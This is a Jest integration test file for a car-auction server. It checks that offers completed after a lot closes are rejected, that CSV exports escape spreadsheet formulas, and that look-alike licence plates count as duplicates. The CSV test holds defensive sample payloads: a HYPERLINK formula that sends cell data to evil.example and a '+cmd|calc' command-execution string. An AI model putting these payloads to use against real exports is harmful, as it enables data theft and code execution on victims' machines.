/**
 * Review of issue 11 (hostile dealer and careless auctioneer) through HTTP against the real built server (PostgreSQL):
 * - an offer is judged by when its whole request arrived: a dealer who sends the headers before a lot's end and the
 *   amount after it (within the close grace) gets 409004, not a winning bid stamped before the end;
 * - the offers export neutralises spreadsheet formulas: a plate, brand or model starting with `=`, `+`, `-`, `@`
 *   (or a tab / carriage return) is written with a leading apostrophe in the CSV;
 * - plates that differ only by spaces, dashes, invisible or full-width characters are one plate (422008).
 */
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import {
  ApiClient, ServerClock, describeResult, sharedServer, sleep, type SharedServer,
} from '../testing/server.test-support.js';
import { type AuctionView, createAuctionBody, paths, runTag } from '../testing/auction.test-support.js';

/**
 * Sends a request's head at `startAt` and its body `bodyDelayMs` later on a raw socket; resolves with the status, the
 * body, and when (this process's clock) the body was written: on a loaded machine the timers fire late.
 */
function slowBody(baseUrl: string, path: string, token: string, body: string, startAt: number, bodyDelayMs: number): Promise<{ status: number; body: string; bodySentAt: number }> {
  const { port, hostname } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    setTimeout(() => {
      const socket = net.connect(Number(port), hostname);
      let out = '';
      let bodySentAt = 0;
      socket.on('data', (d) => (out += d.toString()));
      socket.on('error', reject);
      socket.on('close', () => {
        const [head, ...rest] = out.split('\r\n\r\n');
        resolve({ status: Number(/^HTTP\/1\.1 (\d+)/.exec(head ?? '')?.[1] ?? 0), body: rest.join('\r\n\r\n'), bodySentAt });
      });
      socket.write(`POST ${path} HTTP/1.1\r\nHost: ${hostname}\r\ntoken: ${token}\r\ncontent-type: application/json\r\n` +
        `content-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n`);
      setTimeout(() => { bodySentAt = Date.now(); socket.write(body); }, bodyDelayMs);
    }, Math.max(0, startAt - Date.now()));
  });
}

describe('bidding review of issue 11 (PostgreSQL)', () => {
  let shared: SharedServer | undefined;
  let server: SharedServer['server'] | undefined;
  const s = {} as { auctioneer: ApiClient; d1: ApiClient; d2: ApiClient; clock: ServerClock; tag: string };

  beforeAll(async () => {
    shared = await sharedServer('postgres');
    server = shared.server;
    [s.auctioneer, s.d1, s.d2] = await Promise.all(['auctioneer', 'dealer1', 'dealer2'].map((u) => ApiClient.login(server!.baseUrl, u)));
    s.clock = await ServerClock.sync(s.auctioneer);
    s.tag = runTag();
  }, 120_000);

  afterAll(async () => {
    await shared?.release();
  });

  const create = async (name: string, startMs: number, endMs: number, lots: { licensePlate: string; brand?: string; model?: string }[]) => {
    const body = createAuctionBody({
      name: `Review ${s.tag} ${name}`, startMs, endMs, regulationRequired: false, extension: { windowSeconds: 0, extendSeconds: 0 },
      lots: lots.map((l) => ({ basePrice: 5000, minIncrement: 100, ...l })),
    });
    body.lots = body.lots.map((l, i) => ({ ...l, ...(lots[i]!.brand ? { brand: lots[i]!.brand } : {}), ...(lots[i]!.model ? { model: lots[i]!.model } : {}) }));
    return s.auctioneer.post<AuctionView>(paths.auctions, { body });
  };

  test('headers sent before the end, amount after it: the offer is late (409004), the lot keeps its best offer', async () => {
    const now = Math.ceil(s.clock.now() / 1000) * 1000;
    const end = now + 6_500;
    const created = await create('slow', now - 60_000, end, [{ licensePlate: `SL${s.tag}` }]);
    expect(created.status).toBe(201);
    const { idAuction } = created.body;
    const idLot = created.body.lots[0]!.idLot;
    const first = await s.d1.post(paths.offer(idAuction, idLot), { body: { offer: 5000, clickAndBuy: false } });
    expect(first.status).toBe(201);
    // The head arrives 150 ms before the end; the amount 150 ms after it, inside the 250 ms close grace.
    const late = await slowBody(server!.baseUrl, paths.offer(idAuction, idLot), s.d2.credentials.token!,
      JSON.stringify({ offer: 9000, clickAndBuy: false }), end - 150 - s.clock.offsetMs, 300);
    expect({ status: late.status, errorCode: (JSON.parse(late.body || '{}') as { errorCode?: number }).errorCode }).toEqual({ status: 409, errorCode: 409004 });
    await sleep(800);
    const view = await s.auctioneer.get<AuctionView>(paths.auction(idAuction));
    expect(view.body.lots[0]!.bestOffer).toBe(5000);
  }, 30_000);

  test('an offer whose whole request arrives before the end is still accepted', async () => {
    // The body is written 200 ms after the head, 200 ms before the end; a try whose body this process wrote less than
    // 100 ms before the end (its timers late on a loaded machine: fresh-clone run 54 got 409 here) proves nothing and is
    // made again on a new auction.
    const late: string[] = [];
    for (let attempt = 1; attempt <= 3; attempt++) {
      const now = Math.ceil(s.clock.now() / 1000) * 1000;
      const end = now + 6_500;
      const created = await create(`ontime ${attempt}`, now - 60_000, end, [{ licensePlate: `OT${attempt}${s.tag}` }]);
      expect(created.status).toBe(201);
      const { idAuction } = created.body;
      const ok = await slowBody(server!.baseUrl, paths.offer(idAuction, created.body.lots[0]!.idLot), s.d2.credentials.token!,
        JSON.stringify({ offer: 5000, clickAndBuy: false }), end - 400 - s.clock.offsetMs, 200);
      const margin = end - s.clock.offsetMs - ok.bodySentAt;
      if (margin >= 100) {
        expect(ok.status).toBe(201);
        return;
      }
      late.push(`body written ${margin} ms before the end, answered ${ok.status}`);
    }
    throw new Error(`every try's body was written too late to judge (machine too loaded): ${late.join('; ')}`);
  }, 60_000);

  test('the CSV export neutralises formulas in plates, brands and models', async () => {
    const now = Math.ceil(s.clock.now() / 1000) * 1000;
    const created = await create('csv', now - 60_000, now + 3_600_000, [
      { licensePlate: `=1+1${s.tag}`, brand: '=HYPERLINK("http://evil.example/?"&A1,"open")', model: '+cmd|calc' },
      { licensePlate: `CS${s.tag}`, brand: '@SUM(A1)', model: '-2+3' },
    ]);
    expect(created.status).toBe(201);
    for (const lot of created.body.lots) {
      const res = await s.d1.post(paths.offer(created.body.idAuction, lot.idLot), { body: { offer: 5000, clickAndBuy: false } });
      expect(res.status).toBe(201);
    }
    const file = await fetch(`${server!.baseUrl}/api/v1/secure/auction/${created.body.idAuction}/create-report?typeExport=CSV&lang=en`,
      { headers: { token: s.auctioneer.credentials.token! } });
    expect(file.status).toBe(200);
    const text = (await file.text()).replace(/^\uFEFF/, '');
    const cells = text.split('\r\n').slice(1).filter(Boolean).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
    // No cell may start with a character a spreadsheet reads as a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(text).toContain(`'=1+1${s.tag}`);
    expect(text).toContain(`'@SUM(A1) -2+3`);
  }, 30_000);

  test.each([
    ['spaces', 'AB 123 CD'], ['dashes', 'AB-123-CD'], ['a zero-width space', 'AB123CD\u200b'], ['full-width letters', '\uff21\uff22123CD'],
  ])('two plates that differ only by %s are one plate: 422008', async (_what, other) => {
    const now = Math.ceil(s.clock.now() / 1000) * 1000;
    const res = await create('plates', now + 3_600_000, now + 7_200_000, [{ licensePlate: 'AB123CD' }, { licensePlate: other }]);
    expect(describeResult(res)).toContain('422008');
  });
});
